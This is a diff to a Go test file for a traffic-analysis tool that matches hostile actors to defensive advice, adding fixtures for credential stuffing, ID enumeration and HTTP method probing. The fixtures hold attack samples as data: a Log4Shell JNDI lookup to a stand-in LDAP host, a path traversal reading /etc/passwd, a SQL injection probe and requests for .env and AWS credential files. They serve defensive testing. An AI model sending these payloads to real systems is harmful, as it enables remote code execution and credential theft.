@@ -27,21 +27,24 @@ type adviceCase struct {
 
 // Common findings for the cases below.
 var (
-	envServed   = actor("203.0.113.1", 20, 10*time.Minute, hit(evidence.SensitiveFiles, evidence.Medium, 14, sample("/.env", 200, "x"), sample("/.git/config", 404, "x")))
-	envRefused  = actor("203.0.113.2", 20, 10*time.Minute, hit(evidence.SensitiveFiles, evidence.Medium, 14, sample("/.env", 404, "x"), sample("/.aws/credentials", 403, "x")))
-	sqliBroke   = actor("198.51.100.1", 13, 2*time.Minute, hit(evidence.SQLInjection, evidence.High, 12, sample("/api/products?id=1%27", 500, "Mozilla")))
-	sqliHandled = actor("198.51.100.2", 13, 2*time.Minute, hit(evidence.SQLInjection, evidence.High, 12, sample("/api/products?id=1%27", 400, "Mozilla")))
-	log4j       = actor("198.51.100.3", 1, 0, hit(evidence.Log4Shell, evidence.Critical, 1, sample("/", 200, "${jndi:ldap://198.51.100.9/a}")))
-	crawler     = actor("192.0.2.30", 1000, 5*time.Minute, hit(evidence.AggressiveCrawl, evidence.Low, 1000, sample("/pricing", 200, "python-httpx/0.27")))
-	bruteForce  = actor("2001:db8:1::/64", 120, 4*time.Minute, hit(evidence.BruteForce, evidence.High, 60, sample("/api/login", 401, "python-requests")))
-	wpRefused   = actor("198.51.100.21", 12, time.Minute, hit(evidence.WordPressScan, evidence.Medium, 11, sample("/wp-login.php", 404, "Mozilla"), sample("/xmlrpc.php", 404, "Mozilla")))
-	wpServed    = actor("198.51.100.22", 12, time.Minute, hit(evidence.WordPressScan, evidence.Medium, 11, sample("/wp-login.php", 200, "Mozilla"), sample("/xmlrpc.php", 405, "Mozilla")))
-	phpRefused  = actor("198.51.100.23", 6, 3*time.Minute, hit(evidence.Webshell, evidence.High, 6, sample("/alfa.php", 404, "")))
-	phpServed   = actor("198.51.100.24", 6, 3*time.Minute, hit(evidence.TechProbing, evidence.Low, 6, sample("/info.php", 200, "")))
-	adminProbe  = actor("198.51.100.25", 8, time.Minute, hit(evidence.AdminProbing, evidence.Medium, 4, sample("/phpmyadmin/", 404, "")))
-	failedPaths = actor("198.51.100.26", 30, time.Minute, hit(evidence.HTTPProbing, evidence.Low, 30, sample("/x1", 404, ""), sample("/x2", 404, "")))
-	traversal   = actor("198.51.100.27", 4, time.Minute, hit(evidence.PathTraversal, evidence.High, 4, sample("/download?file=../../etc/passwd", 404, "")))
-	badRequest  = actor("192.0.2.40", 3, time.Minute, hit(evidence.BadRequest, evidence.Low, 3, sample("http://example.com/", 400, "")))
+	envServed    = actor("203.0.113.1", 20, 10*time.Minute, hit(evidence.SensitiveFiles, evidence.Medium, 14, sample("/.env", 200, "x"), sample("/.git/config", 404, "x")))
+	envRefused   = actor("203.0.113.2", 20, 10*time.Minute, hit(evidence.SensitiveFiles, evidence.Medium, 14, sample("/.env", 404, "x"), sample("/.aws/credentials", 403, "x")))
+	sqliBroke    = actor("198.51.100.1", 13, 2*time.Minute, hit(evidence.SQLInjection, evidence.High, 12, sample("/api/products?id=1%27", 500, "Mozilla")))
+	sqliHandled  = actor("198.51.100.2", 13, 2*time.Minute, hit(evidence.SQLInjection, evidence.High, 12, sample("/api/products?id=1%27", 400, "Mozilla")))
+	log4j        = actor("198.51.100.3", 1, 0, hit(evidence.Log4Shell, evidence.Critical, 1, sample("/", 200, "${jndi:ldap://198.51.100.9/a}")))
+	crawler      = actor("192.0.2.30", 1000, 5*time.Minute, hit(evidence.AggressiveCrawl, evidence.Low, 1000, sample("/pricing", 200, "python-httpx/0.27")))
+	bruteForce   = actor("2001:db8:1::/64", 120, 4*time.Minute, hit(evidence.BruteForce, evidence.High, 60, sample("/api/login", 401, "python-requests")))
+	wpRefused    = actor("198.51.100.21", 12, time.Minute, hit(evidence.WordPressScan, evidence.Medium, 11, sample("/wp-login.php", 404, "Mozilla"), sample("/xmlrpc.php", 404, "Mozilla")))
+	wpServed     = actor("198.51.100.22", 12, time.Minute, hit(evidence.WordPressScan, evidence.Medium, 11, sample("/wp-login.php", 200, "Mozilla"), sample("/xmlrpc.php", 405, "Mozilla")))
+	phpRefused   = actor("198.51.100.23", 6, 3*time.Minute, hit(evidence.Webshell, evidence.High, 6, sample("/alfa.php", 404, "")))
+	phpServed    = actor("198.51.100.24", 6, 3*time.Minute, hit(evidence.TechProbing, evidence.Low, 6, sample("/info.php", 200, "")))
+	adminProbe   = actor("198.51.100.25", 8, time.Minute, hit(evidence.AdminProbing, evidence.Medium, 4, sample("/phpmyadmin/", 404, "")))
+	failedPaths  = actor("198.51.100.26", 30, time.Minute, hit(evidence.HTTPProbing, evidence.Low, 30, sample("/x1", 404, ""), sample("/x2", 404, "")))
+	traversal    = actor("198.51.100.27", 4, time.Minute, hit(evidence.PathTraversal, evidence.High, 4, sample("/download?file=../../etc/passwd", 404, "")))
+	stuffer      = actor("198.51.100.60", 2, 72*time.Hour, hit(evidence.CredentialStuffing, evidence.High, 2, sample("/api/login", 401, "Mozilla")))
+	enumerator   = actor("198.51.100.61", 300, 5*time.Minute, hit(evidence.Enumeration, evidence.High, 300, sample("/api/users/1000", 403, "python-requests")))
+	methodProber = actor("198.51.100.62", 7, time.Minute, hit(evidence.MethodProbing, evidence.Medium, 6, sample("/", 405, "")))
+	badRequest   = actor("192.0.2.40", 3, time.Minute, hit(evidence.BadRequest, evidence.Low, 3, sample("http://example.com/", 400, "")))
 	// A crawler-fast scanner (2,400 requests in 10 minutes) and a slow one.
 	fastScanner = actor("192.0.2.31", 2400, 10*time.Minute, hit(evidence.ScannerUA, evidence.Medium, 2400, sample("/", 200, "Nuclei")))
 	slowScanner = actor("192.0.2.32", 50, 10*time.Minute, hit(evidence.ScannerUA, evidence.Medium, 50, sample("/", 200, "Nuclei")))
@@ -89,6 +92,18 @@ var adviceCases = []adviceCase{
 		verdicts: []analysis.Verdict{{Actor: "192.0.2.40", Categories: []evidence.Category{evidence.BruteForce}}},
 		applies:  true, says: []string{"to 20 requests per 5 minutes", "matching the login path"}},
 	{entry: "login-rate-limit", name: "a crawler hitting many pages", actors: []evidence.Actor{crawler}},
+
+	{entry: "account-takeover-prevention", name: "a credential-stuffing campaign", actors: []evidence.Actor{stuffer},
+		applies: true, says: []string{"AWSManagedRulesATPRuleSet", "per account"}, addressed: []string{"198.51.100.60"}},
+	{entry: "account-takeover-prevention", name: "one address brute-forcing", actors: []evidence.Actor{bruteForce}},
+
+	{entry: "object-authorization", name: "ids walked", actors: []evidence.Actor{enumerator},
+		applies: true, says: []string{"walked record ids"}, addressed: []string{"198.51.100.61"}},
+	{entry: "object-authorization", name: "a crawler is no walk", actors: []evidence.Actor{crawler}},
+
+	{entry: "restrict-methods", name: "WebDAV probes", actors: []evidence.Actor{methodProber},
+		applies: true, says: []string{"other than GET, HEAD, POST and OPTIONS"}, addressed: []string{"198.51.100.62"}},
+	{entry: "restrict-methods", name: "path probing is not method probing", actors: []evidence.Actor{failedPaths}},
 
 	{entry: "login-lockout", name: "60 failures", actors: []evidence.Actor{bruteForce}, applies: true, says: []string{"Failed logins on /api/login"}},
 	{entry: "login-lockout", name: "admin probing is not a login", actors: []evidence.Actor{adminProbe}},
